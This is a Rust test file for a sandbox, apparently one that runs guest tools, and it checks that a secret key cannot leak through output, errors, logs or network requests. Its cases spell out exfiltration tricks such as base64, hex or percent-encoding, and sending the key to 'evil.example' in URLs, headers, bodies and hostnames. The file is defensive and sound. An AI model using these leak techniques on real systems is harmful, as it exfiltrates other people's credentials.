//! A guest that got hold of a secret, and every way to say it. It is in a file that it may read, as by an accident; where
//! the way needs other clothes than the guest can sew, the test hands it over.

use playhouse_core::tool::ToolErrorKind::{BadOutput, Crashed, Failed};
use serde_json::{Value, json};

use super::place::KEY;
use super::{Case, Expect};

const CLASS: &str = "secret";

pub(crate) fn cases() -> Vec<Case> {
    [outputs(), errors(), told(), sent(), sent_back()].into_iter().flatten().collect()
}

fn hex() -> String {
    KEY.bytes().map(|byte| format!("{byte:02x}")).collect()
}

/// As JSON text with every letter escaped.
fn escaped() -> String {
    KEY.chars().map(|letter| format!("\\u{:04x}", letter as u32)).collect()
}

/// Standard base64, by hand: the crate is no dependency of this one.
fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let group = |three: &[u8]| {
        let word =
            (0..3).fold(0_usize, |word, at| word << 8 | three.get(at).map_or(0, |byte| usize::from(*byte)));
        let letter = |at: usize| char::from(LETTERS[word >> (18 - 6 * at) & 63]);
        (0..=three.len()).map(letter).collect::<String>()
    };
    bytes.chunks(3).map(group).collect()
}

fn outputs() -> Vec<Case> {
    let raw =
        |name, text: String| Case::arguments(CLASS, name, json!({ "raw": text }), Expect::Ends(BadOutput));
    vec![
        Case::steps(
            CLASS,
            "in the output, read from a file",
            json!([["read", "docs/leak.txt"]]),
            Expect::Ends(BadOutput),
        ),
        raw("in the output, in hexadecimal", format!("\"{}\"", hex())),
        raw("in the output, in base64", format!("\"{}\"", base64(KEY.as_bytes()))),
        raw("in the output, in base64 between other bytes", {
            format!("\"{}\"", base64(format!("a{KEY}bc").as_bytes()))
        }),
        raw("in the output, backwards", json!(KEY.chars().rev().collect::<String>()).to_string()),
        raw("in the output, percent-encoded", {
            format!("\"{}\"", KEY.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>())
        }),
        raw("in the output, as JSON writes it", json!({ "key": KEY }).to_string()),
        raw("in the output, every letter escaped", format!("\"{}\"", escaped())),
        raw("in the output, as a name of a field", json!({ KEY: 1 }).to_string()),
        raw("in the output, one letter escaped", json!(KEY).to_string().replacen('s', "\\u0073", 1)),
    ]
}

fn errors() -> Vec<Case> {
    let fails = |name, message: String| {
        let given = json!({ "fail": "failed", "message": message });
        Case::arguments(CLASS, name, given, Expect::Ends(Failed))
    };
    // An error is cut after 240 letters.
    let across = format!("{}{KEY}", "x".repeat(241 - KEY.len()));
    vec![
        fails("in an error", format!("cannot log in with {KEY}")),
        fails("in an error, cut in two by its end", across.clone()),
        Case::steps(
            CLASS,
            "in an error of a tool that it calls",
            json!([["tool", "reaches", {"fail": "failed", "message": across}]]),
            Expect::Answers(|value| value[0]["err"].is_array()),
        ),
        Case::steps(
            CLASS,
            "in the words of a panic",
            json!([["read", "docs/leak.txt"], ["panic"]]),
            Expect::Ends(Crashed),
        ),
    ]
}

fn told() -> Vec<Case> {
    let across = format!("{}{KEY}", "x".repeat(1_025 - KEY.len()));
    let quiet = |name, step: Value| {
        Case::steps(CLASS, name, json!([step]), Expect::Answers(|value| value[0]["ok"].is_null()))
    };
    vec![
        quiet("in a line for the log", json!(["log", format!("using {KEY}")])),
        quiet("in a line for the log, cut in two by its end", json!(["log", across])),
        quiet("in a line for the log, in base64", json!(["log", base64(KEY.as_bytes())])),
        quiet("in a word about progress", json!(["report", 1, 2, KEY])),
        quiet("in a word about progress, cut in two by its end", json!(["report", 1, 2, across])),
        quiet("in a part of the output", json!(["partial", format!("so far {KEY}")])),
        quiet("in a part of the output, in hexadecimal", json!(["partial", hex()])),
    ]
}

fn sent() -> Vec<Case> {
    let url = "https://api.example.com";
    let refused: fn(&Value) -> bool = |value| value[0]["err"][0] == "ErrorKind::SecretLeak";
    let sends = |name, step: Value| Case::steps(CLASS, name, json!([step]), Expect::Answers(refused));
    let percent: String = KEY.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let some = KEY.replacen('s', "%73", 1).replacen('a', "%61", 1);
    vec![
        sends("in an address", json!(["fetch", "GET", format!("{url}/?k={KEY}")])),
        sends("in an address, percent-encoded", json!(["fetch", "GET", format!("{url}/{percent}")])),
        sends(
            "in an address, two letters percent-encoded",
            json!(["fetch", "GET", format!("{url}/?k={some}")]),
        ),
        sends("in the name of a host", json!(["fetch", "GET", format!("https://{}.evil.example/", hex())])),
        sends("in a header", json!(["fetch", "GET", url, {"x-a": base64(KEY.as_bytes())}])),
        sends("in the name of a header", json!(["fetch", "GET", url, {hex(): "1"}])),
        sends("in a body", json!(["fetch", "POST", url, {}, format!("key={KEY}")])),
        sends("in a body, as JSON with every letter escaped", json!(["fetch", "POST", url, {}, escaped()])),
        sends("in the name of a method", json!(["fetch", KEY, url])),
    ]
}

/// What the server says of the secret that the host attached.
fn sent_back() -> Vec<Case> {
    let url = "https://api.example.com";
    let steps = |name, path: &str, secrets: Value, expect| {
        Case::steps(CLASS, name, json!([["fetch", "GET", format!("{url}{path}"), {}, "", secrets]]), expect)
    };
    vec![
        steps(
            "sent back by the server, in headers, JSON and address",
            "/",
            json!(["api"]),
            Expect::Answers(|value| {
                value[0]["ok"]["headers"][0][1] == "Bearer [secret]"
                    && value[0]["ok"]["body"].as_str().is_some_and(|body| body.contains("[secret]"))
                    && value[0]["ok"]["url"].as_str().is_some_and(|url| url.contains("[secret]"))
            }),
        ),
        steps(
            "sent back in an error of the connection",
            "/fails",
            json!(["api"]),
            Expect::Answers(|value| value[0]["err"][1].as_str().is_some_and(|why| why.contains("[secret]"))),
        ),
        steps(
            "one that is for signing, asked to be sent",
            "/",
            json!(["signing"]),
            Expect::Answers(|value| {
                value[0]["err"][1].as_str().is_some_and(|why| why.contains("for signing"))
            }),
        ),
        steps(
            "one that is not granted",
            "/",
            json!(["root"]),
            Expect::Answers(|value| value[0]["err"][0] == "ErrorKind::NotGranted"),
        ),
        Case::steps(
            CLASS,
            "signing with one that is to be sent",
            json!([["sign", "api", "payload"], ["sign", "root", "payload"]]),
            Expect::Answers(|value| value[0]["err"].is_string() && value[1]["err"].is_string()),
        ),
        Case::steps(
            CLASS,
            "one that is for elsewhere, sent to a server of its own",
            json!([["fetch", "GET", "https://evil.example/", {}, "", ["api"]]]),
            Expect::Answers(|value| value[0]["err"][0] == "ErrorKind::NotGranted"),
        ),
    ]
}
